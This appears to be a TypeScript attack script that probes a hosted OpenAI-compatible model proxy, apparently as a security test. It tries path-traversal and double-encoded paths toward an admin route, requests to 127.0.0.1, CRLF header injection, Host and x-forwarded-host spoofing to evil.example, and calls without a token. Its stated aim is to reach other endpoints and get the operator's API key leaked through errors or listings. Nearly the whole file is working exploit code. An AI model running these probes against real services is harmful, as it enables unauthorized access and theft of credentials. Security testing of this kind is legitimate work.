// Leads the town's model proxy elsewhere, and has the operator's key told to it.
import { anyOf, ask, attack, need, type Town } from "./attempt.ts";

const places = (town: Town) => [
  "files",
  "organization/api_keys",
  "models/..%2f..%2fadmin",
  "models/%2e%2e/admin",
  "models/..",
  "models/a%2f..%2f..%2fadmin",
  "models/a/%252e%252e/admin",
  "..%2fadmin",
  "%2e%2e%2fadmin",
  "chat/completions/../../admin",
  "chat%2fcompletions",
  "chat/completions%3fadmin",
  "chat/completions%23",
  "chat/completions;admin",
  "/admin",
  `http://127.0.0.1:${town.tcp}/`,
  `/127.0.0.1:${town.tcp}/`,
  `@127.0.0.1:${town.tcp}/`,
  `models/@127.0.0.1:${town.tcp}`,
  "responses/resp_1",
  "threads",
];
const post = { method: "POST", body: '{"model":"gpt"}', headers: { "content-type": "application/json" } };
/** The refusals of the model server itself are as good: it was asked. What it should not be asked is seen from outside. */
async function throughTo(path: string, init: RequestInit = {}): Promise<string> {
  const headers = { authorization: `Bearer ${Deno.env.get("valtown")}`, ...init.headers };
  const answer = await fetch(`${Deno.env.get("VALTOWN_API_URL")}/v1/openai/${path}`, { ...init, headers });
  return JSON.stringify([answer.status, [...answer.headers], await answer.text()]);
}
const withKey = (text: string) =>
  need(/sk-[\w-]{8}|secret-/.test(text) && text, `no key in ${text.slice(0, 200)}`);

export default attack({
  "other endpoints": (town) =>
    anyOf(places(town), async (path) => {
      await throughTo(path, post);
      return await ask(`/v1/openai/${path}`);
    }),
  "the key, by an error": () =>
    anyOf(
      ["chat/completions", "responses", "embeddings", "moderations", "images/generations"],
      async (path) => withKey(await throughTo(path, post)),
    ),
  "the key, by the list": async () => withKey(await throughTo("models")),
  "the key, by what it sends along": () =>
    anyOf(
      [
        { "openai-beta": "x\r\nx-y: z" },
        { "openai-beta": "x", "openai-organization": "other", "x-forwarded-host": "evil.example" },
        { host: "evil.example" },
        { connection: "authorization", authorization: `Bearer ${Deno.env.get("valtown")}` },
        { accept: "text/html" },
      ],
      async (headers) =>
        withKey(
          await throughTo("chat/completions", { ...post, headers: { ...post.headers, ...headers } as never }),
        ),
    ),
  "a call without a token": () =>
    anyOf(["", "Bearer x", "Basic eDp5"], async (authorization) => {
      const text = await throughTo("chat/completions", {
        ...post,
        headers: { ...post.headers, authorization },
      });
      return need(!text.startsWith("[401") && text, "refused");
    }),
});
